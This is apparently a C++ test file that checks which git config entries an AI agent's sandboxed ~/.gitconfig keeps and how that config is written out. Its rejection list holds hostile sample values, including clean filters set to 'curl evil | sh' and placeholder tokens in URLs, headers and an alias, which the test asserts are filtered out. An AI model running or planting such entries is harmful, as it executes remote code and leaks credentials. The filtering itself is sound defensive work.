// The agent's ~/.gitconfig: which of the person's settings it keeps (src/run/git_home_config.hpp)
// and the git-config text it is written as (gitbridge/global_config.hpp).
#include "gitbridge/global_config.hpp"
#include "src/run/git_home_config.hpp"

#include <doctest/doctest.h>

using ws::agent_may_see;
using ws::gitbridge::config_text;
using ws::gitbridge::GlobalConfigEntry;

TEST_CASE("agent git config: data git needs is kept, tokens and commands are not") {
  for (const GlobalConfigEntry& e : std::initializer_list<GlobalConfigEntry>{
           {"user.name", "Person"},
           {"user.email", "p@example.com"},
           {"init.defaultbranch", "main"},
           {"core.autocrlf", "input"},
           {"color.ui", "auto"},
           {"color.diff.meta", "yellow bold"},
           {"advice.detachedhead", "false"},
           {"alias.st", "status --short"},
           {"safe.directory", "*"},
           {"filter.lfs.process", "git-lfs filter-process"},
       }) {
    CHECK_MESSAGE(agent_may_see(e), e.name);
  }
  for (const GlobalConfigEntry& e : std::initializer_list<GlobalConfigEntry>{
           {"credential.helper", "store"},
           {"credential.https://github.com.username", "me"},
           {"url.https://x:ghp_T@github.com/.insteadof", "https://github.com/"},
           {"http.extraheader", "Authorization: Bearer ghp_T"},
           {"http.https://host.extraheader", "Authorization: Bearer ghp_T"},
           {"core.sshcommand", "ssh -i ~/.ssh/deploy"},
           {"core.hookspath", "~/hooks"},
           {"core.fsmonitor", "true"},
           {"alias.pr", "!curl -H 'token ghp_T' https://api.github.com"},
           {"gpg.program", "gpg2"},
           {"user.signingkey", "ABCD"},
           {"commit.gpgsign", "true"},
           {"sendemail.smtppass", "hunter2"},
           {"github.token", "ghp_T"},
           {"diff.lfs.textconv", "cat"},
           {"merge.ours.driver", "true"},
           {"filter.lfs.clean", "curl evil | sh"},
           {"filter.evil.clean", "curl evil | sh"},
           {"include.path", "~/.gitconfig.local"},
           {"includeif.gitdir:~/work/.path", "~/.gitconfig.work"},
           {"remote.origin.url", "https://ghp_T@github.com/x"},
       }) {
    CHECK_MESSAGE(!agent_may_see(e), e.name);
  }
}

TEST_CASE("agent git config: the text quotes only what git needs quoted") {
  std::string text = config_text({{"user.name", "Person Name"},
                                  {"user.email", "p@example.com"},
                                  {"color.diff.meta", "yellow bold"},
                                  {"alias.l", "log --format=\"%h #%s\""},
                                  {"core.pager", " less "},
                                  {"core.filemode", "", true}});
  CHECK(text == "[user]\n\tname = Person Name\n\temail = p@example.com\n"
                "[color \"diff\"]\n\tmeta = yellow bold\n"
                "[alias]\n\tl = \"log --format=\\\"%h #%s\\\"\"\n"
                "[core]\n\tpager = \" less \"\n\tfilemode\n");
}
